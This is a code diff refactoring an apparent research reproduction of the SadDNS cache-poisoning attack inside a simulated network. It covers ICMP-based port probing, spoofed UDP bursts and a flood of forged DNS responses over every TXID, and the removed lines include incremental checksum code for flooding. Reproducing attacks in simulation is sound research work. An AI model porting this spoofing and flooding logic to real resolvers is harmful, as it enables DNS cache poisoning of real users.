@@ -23,7 +23,6 @@ The numbers Table 6 reports (hitrate ≈ 0.2%, ≈ 497 triggered queries,
 
 from __future__ import annotations
 
-import struct
 from dataclasses import dataclass
 
 from repro.attacks.base import AttackResult, OffPathAttacker, cache_poisoned
@@ -34,15 +33,8 @@ from repro.dns.nameserver import AuthoritativeServer
 from repro.dns.records import ResourceRecord, TYPE_A, rr_a
 from repro.dns.resolver import RecursiveResolver
 from repro.dns.wire import encode_message
-from repro.netsim.addresses import ip_to_int
-from repro.netsim.checksum import ones_complement_sum
 from repro.netsim.network import Network
-from repro.netsim.packet import (
-    PROTO_UDP,
-    UDP_HEADER_LEN,
-    Ipv4Packet,
-    UdpDatagram,
-)
+from repro.netsim.packet import UdpBurst, UdpDatagram
 
 DNS_PORT = 53
 EPHEMERAL_LOW = 1024
@@ -157,16 +149,20 @@ class SadDnsAttack:
         while len(batch) < config.batch_size:
             batch.append(filler_port)
             filler_port += 1
-        self.attacker.drain_icmp()
-        for port in batch:
-            self.attacker.spoof_udp(ns_ip, DNS_PORT, resolver_ip, port,
-                                    b"\x00\x00probe")
+        attacker = self.attacker
+        attacker.drain_icmp()
+        pick = attacker.rng.pick_txid  # the ident draws of ``spoof_udp``
+        attacker.inject_burst(UdpBurst(
+            ns_ip, resolver_ip,
+            tuple(UdpDatagram(DNS_PORT, port, b"\x00\x00probe")
+                  for port in batch),
+            tuple(pick() for _ in batch)))
         # Verification probe, same instant: the deterministic scheduler
         # delivers it after the batch, before any token refill.
-        self.attacker.send_udp(resolver_ip, config.verification_port,
-                               b"\x00\x00verify")
+        attacker.send_udp(resolver_ip, config.verification_port,
+                          b"\x00\x00verify")
         self.network.run(0.03)
-        responses = self.attacker.drain_icmp()
+        responses = attacker.drain_icmp()
         return any(
             message.is_port_unreachable and src == resolver_ip
             for message, src in responses
@@ -196,61 +192,31 @@ class SadDnsAttack:
     def flood_txids(self, port: int, qname: str) -> bool:
         """Spoof responses for every TXID to the discovered port.
 
-        The 2^16 flood packets differ only in the DNS TXID (the first
-        payload word), so the UDP checksum is maintained incrementally
-        from the TXID-zero sum instead of re-summing every segment —
-        the same trick real flooding tools use.  The packets injected,
-        and the attacker's per-packet IP-ID draws, are bit-identical to
-        encoding each one from scratch.
-
-        Each ``txid_flood_chunk`` of packets leaves as one burst
-        (:meth:`OffPathAttacker.inject_burst`): on a clean fabric the
-        chunk is a single scheduler event that delivers its packets in
-        order, so the resolver sees the same datagrams in the same
-        order as when each packet is sent on its own.
+        The 2^16 forged responses differ only in the DNS TXID (the first
+        payload word): the response is encoded once, and each
+        ``txid_flood_chunk`` of datagrams leaves as one :class:`UdpBurst`
+        with one IP ident drawn per datagram, in flood order.  The
+        resolver gets what per-packet sends would deliver, in the same
+        order (see :meth:`OffPathAttacker.inject_burst`).
         """
         config = self.config
         resolver_ip = self.resolver.address
         ns_ip = self.nameserver.address
         attacker = self.attacker
-        rng = attacker.rng
+        pick = attacker.rng.pick_txid
         # Encode once; only the two TXID bytes change across the flood.
-        template = bytearray(encode_message(attacker.forge_response(
+        tail = encode_message(attacker.forge_response(
             names.normalise(qname), TYPE_A, 0, self.malicious_records,
-        )))
-        seg_len = UDP_HEADER_LEN + len(template)
-        src_int = ip_to_int(ns_ip)
-        dst_int = ip_to_int(resolver_ip)
-        header_zero_csum = struct.pack("!HHHH", DNS_PORT, port, seg_len, 0)
-        # One's-complement sum of pseudo-header + header + TXID-zero
-        # payload; the TXID word is 16-bit aligned, so each TXID adds
-        # straight into the folded sum.
-        base_sum = ones_complement_sum(
-            header_zero_csum + bytes(template),
-            (src_int >> 16) + (src_int & 0xFFFF)
-            + (dst_int >> 16) + (dst_int & 0xFFFF) + 17 + seg_len,
-        )
+        ))[2:]
         for start in range(0, 0x10000, config.txid_flood_chunk):
-            burst = []
-            for txid in range(start,
-                              min(start + config.txid_flood_chunk, 0x10000)):
-                template[0] = txid >> 8
-                template[1] = txid & 0xFF
-                total = base_sum + txid
-                total = (total & 0xFFFF) + (total >> 16)
-                checksum = (~total) & 0xFFFF
-                if checksum == 0:
-                    checksum = 0xFFFF
-                payload = bytes(template)
-                segment = struct.pack("!HHHH", DNS_PORT, port, seg_len,
-                                      checksum) + payload
-                burst.append(Ipv4Packet(
-                    src=ns_ip, dst=resolver_ip, proto=PROTO_UDP,
-                    payload=segment, ident=rng.pick_txid(),
-                    udp=UdpDatagram(sport=DNS_PORT, dport=port,
-                                    payload=payload),
-                ))
-            attacker.inject_burst(burst)
+            txids = range(start,
+                          min(start + config.txid_flood_chunk, 0x10000))
+            attacker.inject_burst(UdpBurst(
+                ns_ip, resolver_ip,
+                tuple([UdpDatagram(DNS_PORT, port,
+                                   txid.to_bytes(2, "big") + tail)
+                       for txid in txids]),
+                tuple([pick() for _ in txids])))
             # Give the chunk a full propagation delay before checking.
             self.network.run(0.012)
             if cache_poisoned(self.resolver, qname,
